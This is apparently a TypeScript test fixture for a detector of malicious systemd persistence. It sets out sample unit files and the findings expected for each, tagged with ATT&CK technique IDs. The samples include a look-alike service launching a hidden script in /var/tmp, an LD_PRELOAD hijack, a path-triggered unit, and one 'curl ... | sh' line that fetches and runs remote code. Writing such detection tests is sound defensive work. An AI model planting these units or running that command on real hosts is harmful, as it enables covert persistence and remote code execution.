import { type Pair, script } from './pair.ts';

export const pair: Pair = {
  packaged: { '/usr/lib/systemd/system/ssh.service': '[Service]\nExecStart=/usr/sbin/sshd -D\n' },
  tree: {
    '/etc/systemd/system/dbus-org.freedesktop.resolved.service':
      '[Service]\nExecStart=-/var/tmp/.font-cache/upd unit\nRestart=always\n',
    '/var/tmp/.font-cache/upd': script(':'),
    '/run/systemd/transient/run-u7.service': '[Service]\nExecStart=/dev/shm/.s/run\n',
    '/etc/systemd/system/linked.service': { link: '/var/tmp/linked.service' },
    '/var/tmp/linked.service': '[Service]\nExecStart=/bin/sh -c "curl -s http://203.0.113.2/x | sh"\n',
    '/etc/systemd/system/web.service':
      '[Service]\nEnvironment="LD_PRELOAD=/var/tmp/.l/libx.so"\nExecStart=/var/tmp/.l/web\n',
    '/etc/systemd/system/watch.path': '[Path]\nPathExists=/run/go\nUnit=run-u7.service\n',
    '/etc/systemd/system/hostwatch-agent.service':
      '[Service]\nExecStart=/opt/hostwatch/bin/agent\nRestart=always\n',
    '/etc/systemd/system/app.service':
      '[Service]\nEnvironment=LD_PRELOAD=/usr/lib/libjemalloc.so.2\nExecStart=/opt/app/bin/app\n',
    '/opt/hostwatch/bin/agent': script(':'),
  },
  blamed: [
    {
      path: '/etc/systemd/system/dbus-org.freedesktop.resolved.service',
      line: 2,
      verdict: 'malicious',
      code: 'look-alike',
      attack: 'T1036.004',
    },
    {
      path: '/run/systemd/transient/run-u7.service',
      line: 2,
      verdict: 'malicious',
      code: 'temp-folder',
      attack: 'T1543.002',
    },
    {
      path: '/var/tmp/linked.service',
      line: 2,
      verdict: 'malicious',
      code: 'linked-from-temp',
      attack: 'T1543.002',
    },
    {
      path: '/etc/systemd/system/web.service',
      line: 2,
      verdict: 'malicious',
      code: 'ld-preload',
      attack: 'T1574.006',
    },
    {
      path: '/etc/systemd/system/watch.path',
      verdict: 'malicious',
      code: 'starts-malicious-unit',
      attack: 'T1543.002',
    },
  ],
  passed: ['hostwatch-agent.service', 'ssh.service', '/etc/systemd/system/app.service'],
};
